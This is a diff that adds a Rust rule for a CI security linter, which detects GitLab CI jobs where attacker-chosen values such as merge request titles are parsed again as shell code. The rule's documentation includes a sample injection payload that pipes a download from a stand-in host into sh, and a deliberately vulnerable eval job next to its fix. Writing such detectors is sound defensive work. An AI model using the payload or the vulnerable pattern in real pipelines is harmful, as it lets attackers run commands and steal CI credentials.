@@ -1,0 +1,253 @@
+//! `gitlab-script-injection`: text someone else chooses, parsed again as code by a job.
+
+use std::collections::HashMap;
+use std::ops::Range;
+
+use super::{Confidence, Findings, Platform, Reference, Rule, RuleDocs, RuleMeta, Severity, taint};
+use crate::matrix::{OwaspCicd, Technique};
+use crate::model::gitlab::{GitlabJob, Globals};
+use crate::model::gitlab_variables::{Scope, Taint};
+use crate::model::reparse;
+use crate::model::shell::{Command, PartKind, Script, Word};
+
+pub struct GitlabScriptInjection;
+
+static META: RuleMeta = RuleMeta {
+    id: "gitlab-script-injection",
+    technique: Technique::EX06,
+    severity: Severity::High,
+    confidence: Confidence::High,
+    platforms: &[Platform::GitlabCi],
+    docs: RuleDocs {
+        summary: "Text someone else chooses is parsed again as code by a job",
+        detects: "A predefined variable whose value someone other than the maintainers chooses \
+(merge request titles, descriptions and source branches, commit messages and authors, branch \
+and tag names, labels: see docs/gitlab-variables.md), directly or through `variables:` and \
+shell assignments, in a place where it is parsed again as code: the arguments of `eval`, the \
+command string of `sh -c`/`bash -c` (also inside `docker exec`, `find -exec`, `su -c`), the \
+program of `python -c`, `node -e`, `perl -e`, `ruby -e`, `php -r`, `awk` or `pwsh -Command`, \
+the remote command of `ssh host \"...\"`, text piped or fed as a here-document to a shell, a \
+script the job writes (`echo ... > x.sh`, `cat > x.sh <<EOF`) and then runs (`sh x.sh`, \
+`source x.sh`, `./x.sh`), `envsubst` told to substitute it into such a script, an \
+unquoted variable used as the command itself; and, as medium, `$[[ inputs.name ]]` of a \
+free-text `spec:` input in a script, which GitLab pastes into the configuration as text. Not reported, because the shell expands the \
+value once and never runs it: `echo \"$CI_MERGE_REQUEST_TITLE\"`, `git checkout \
+$CI_COMMIT_REF_NAME` (unquoted arguments are split into words, not run), `$(...)` and \
+backquotes around such a variable, and values that cannot hold shell syntax \
+(`$CI_COMMIT_REF_SLUG`, SHAs). Severity follows who chooses the value where the job runs: \
+high for merge request text in jobs that run in merge request pipelines, medium for branch \
+and tag names and labels, low for commit messages on the default branch.",
+        why: "GitLab does not paste variables into scripts: the shell expands them when the \
+line runs, so a quoted `\"$CI_MERGE_REQUEST_TITLE\"` is only ever text. `eval`, `sh -c` and \
+the other places above take that text and parse it as a new command line: a title such as \
+`x\"; curl -s evil.example | sh; \"` then runs the attacker's commands on the runner, with the \
+job's variables and tokens. A merge request's author can change `.gitlab-ci.yml` in their \
+branch anyway, but a fork's pipeline only runs in this project, with its variables, after a \
+member reads the diff and starts it; the title, description and branch name are not in the \
+diff, and can be changed until the pipeline starts.",
+        attack: "Execution › Modify CI/CD configurations (EX06): the attacker rewrites the \
+commands the job runs without changing a file. It usually starts at Initial Access › Public \
+repositories (IA01), a merge request from a fork, and leads to Credential Access › Env \
+variables stored in CI/CD (CA02): the job's CI/CD variables, `CI_JOB_TOKEN` and any deployment \
+credentials it holds.",
+        example: r#"stages: [test]
+announce:
+  stage: test
+  rules:
+    - if: $CI_PIPELINE_SOURCE == "merge_request_event"
+  script:
+    - eval "echo Testing $CI_MERGE_REQUEST_TITLE"
+"#,
+        fixed_example: r#"stages: [test]
+announce:
+  stage: test
+  rules:
+    - if: $CI_PIPELINE_SOURCE == "merge_request_event"
+  script:
+    - echo "Testing $CI_MERGE_REQUEST_TITLE"
+"#,
+        fix: "Use the variable as data: quote it as an argument (`echo \"$TITLE\"`), pass it \
+to `sh -c` as a positional parameter (`sh -c 'echo \"$1\"' _ \"$CI_COMMIT_REF_NAME\"`), read \
+it from the environment inside interpreters (`os.environ[\"CI_MERGE_REQUEST_TITLE\"]`, \
+`process.env.CI_MERGE_REQUEST_TITLE`), and write generated scripts with a quoted \
+here-document (`<<'EOF'`) that reads the variable when it runs. No quick fix is offered: \
+each place needs its own rewrite.",
+    },
+    references: &[
+        Reference::Owasp(OwaspCicd::Sec4),
+        Reference::Cwe(
+            78,
+            "Improper Neutralization of Special Elements used in an OS Command ('OS Command Injection')",
+        ),
+        Reference::Cwe(94, "Improper Control of Generation of Code ('Code Injection')"),
+        Reference::Link(
+            "GitLab: Predefined CI/CD variables reference",
+            "https://docs.gitlab.com/ci/variables/predefined_variables/",
+        ),
+    ],
+};
+
+impl Rule for GitlabScriptInjection {
+    fn meta(&self) -> &'static RuleMeta {
+        &META
+    }
+
+    fn check_gitlab_job(&self, globals: &Globals, job: &GitlabJob, out: &mut Findings) {
+        let scope = Scope::new(globals, job);
+        let lines: Vec<&Script> = job.scripts().collect();
+        let mut written: HashMap<String, Vec<Written>> = HashMap::new();
+        for (index, script) in lines.iter().enumerate() {
+            interpolated_inputs(globals, script, out);
+            for command in &script.commands {
+                let at = scope.in_script(index, command.range.start);
+                for code in reparse::code_words(command) {
+                    for (range, taint) in tainted_expansions(&at, script, code.word) {
+                        report(
+                            out,
+                            script.span_of(range),
+                            &taint,
+                            &format!("is parsed again as code by {}", code.parser),
+                        );
+                    }
+                }
+                if let Some(parser) = reparse::stdin_parser(command) {
+                    for (range, taint) in content(&at, script, command) {
+                        let how = format!("is fed to {parser}, which runs what it reads as commands");
+                        report(out, script.span_of(range), &taint, &how);
+                    }
+                }
+                command_position(&at, script, command, out);
+                let targets: Vec<String> = script.written_files(command).filter_map(path_of).collect();
+                if !targets.is_empty() {
+                    for (range, taint) in content(&at, script, command) {
+                        for path in &targets {
+                            let write = Written { line: index, range: range.clone(), taint: taint.clone() };
+                            written.entry(path.clone()).or_default().push(write);
+                        }
+                    }
+                }
+                // Each write is reported once, where the file it went into first runs.
+                let Some(file) = reparse::executed_file(command).and_then(path_of) else { continue };
+                let Some(writes) = written.remove(&file) else { continue };
+                let runner = excerpt(script.slice(command.range.clone()));
+                for write in writes {
+                    let how = format!("is written into `{file}`, which this job then runs (`{runner}`)");
+                    report(out, lines[write.line].span_of(write.range), &write.taint, &how);
+                }
+            }
+        }
+    }
+}
+
+/// `$[[ inputs.name ]]` of free-text inputs in a script line: GitLab pastes the value into
+/// the configuration before the pipeline exists, so it is code, however it is quoted.
+fn interpolated_inputs(globals: &Globals, script: &Script, out: &mut Findings) {
+    let text = &script.text.value;
+    for (at, _) in text.match_indices("$[[") {
+        let Some(close) = text[at..].find("]]").map(|found| at + found + 2) else { continue };
+        let inner = &text[at + 3..close - 2];
+        let Some(rest) = inner.trim_start().strip_prefix("inputs.") else { continue };
+        let name: String = rest.chars().take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-')).collect();
+        if !globals.inputs.iter().any(|input| input.name.value == name && input.free_text) {
+            continue;
+        }
+        let expanded = if inner.contains("expand_vars") {
+            ", and `expand_vars` pastes the values of the variables it names (a `$CI_MERGE_REQUEST_TITLE` passed in) as well"
+        } else {
+            ""
+        };
+        out.report(
+            script.span_of(at..close),
+            format!(
+                "the input `{name}` is pasted into the script before it runs: whoever sets it (the configuration that includes this file, or whoever runs the pipeline with inputs) writes part of the script{expanded}"
+            ),
+        )
+        .with_severity(Severity::Medium)
+        .with_confidence(Confidence::Medium);
+    }
+}
+
+/// A tainted value a script line wrote into a file.
+struct Written {
+    line: usize,
+    range: Range<usize>,
+    taint: Taint,
+}
+
+fn report(out: &mut Findings, span: crate::syntax::span::Span, taint: &Taint, how: &str) {
+    let place = format!("in {}{}", taint.pipeline.name(), taint.runs.caveat());
+    let message = format!(
+        "{} {how}: {} can make this job run their own commands {place}",
+        taint.describe(),
+        taint.controller.who(),
+    );
+    out.report(span, message)
+        .with_severity(taint::gitlab_injection_severity(taint))
+        .with_confidence(taint::gitlab_injection_confidence(taint));
+}
+
+/// The injectable expansions of a word parsed as code: its variables, and those printed by
+/// the commands of its substitutions (`eval "$(echo "$X")"`).
+fn tainted_expansions(scope: &Scope<'_>, script: &Script, word: &Word) -> Vec<(Range<usize>, Taint)> {
+    let mut found = Vec::new();
+    for part in &word.parts {
+        match &part.kind {
+            PartKind::Variable(name) => found.extend(injectable(scope, name).map(|taint| (part.range.clone(), taint))),
+            PartKind::Substitution => {
+                for command in script.commands_within(part.range.clone()) {
+                    found.extend(emitted(scope, script, command));
+                }
+            }
+            PartKind::Literal | PartKind::Expression => {}
+        }
+    }
+    found
+}
+
+/// The injectable variables a command writes out, directly or through the commands piped
+/// into it (`echo "$X" | tee run.sh`, `echo "$X" | sh`).
+fn content(scope: &Scope<'_>, script: &Script, command: &Command) -> Vec<(Range<usize>, Taint)> {
+    reparse::written_variables(script, command)
+        .into_iter()
+        .filter_map(|(name, range)| Some((range, injectable(scope, name)?)))
+        .collect()
+}
+
+fn emitted(scope: &Scope<'_>, script: &Script, command: &Command) -> Vec<(Range<usize>, Taint)> {
+    reparse::emitted_variables(script, command)
+        .into_iter()
+        .filter_map(|(name, range)| Some((range, injectable(scope, name)?)))
+        .collect()
+}
+
+fn injectable(scope: &Scope<'_>, name: &str) -> Option<Taint> {
+    scope.taint_of_variable(name).filter(Taint::injectable)
+}
+
+/// An unquoted variable that is the command itself: its value is split into a program and
+/// its arguments, which run.
+fn command_position(scope: &Scope<'_>, script: &Script, command: &Command, out: &mut Findings) {
+    let Some(program) = command.name_index().map(|index| &command.words[index]) else { return };
+    let Some(first) = program.parts.first() else { return };
+    let PartKind::Variable(name) = &first.kind else { return };
+    if first.quoted {
+        return;
+    }
+    if let Some(taint) = injectable(scope, name).filter(Taint::is_direct) {
+        report(out, script.span_of(first.range.clone()), &taint, "is run as a command, unquoted");
+    }
+}
+
+/// The start of a command's text, for messages: its first line, at most 60 characters.
+fn excerpt(command: &str) -> String {
+    let line = command.trim().lines().next().unwrap_or_default();
+    match line.char_indices().nth(60) {
+        Some((cut, _)) => format!("{}...", &line[..cut]),
+        None => line.to_owned(),
+    }
+}
+
+/// A file path written literally, without a leading `./`.
+fn path_of(word: &Word) -> Option<String> {
+    word.is_literal().then(|| word.text.trim_start_matches("./").to_owned())
+}
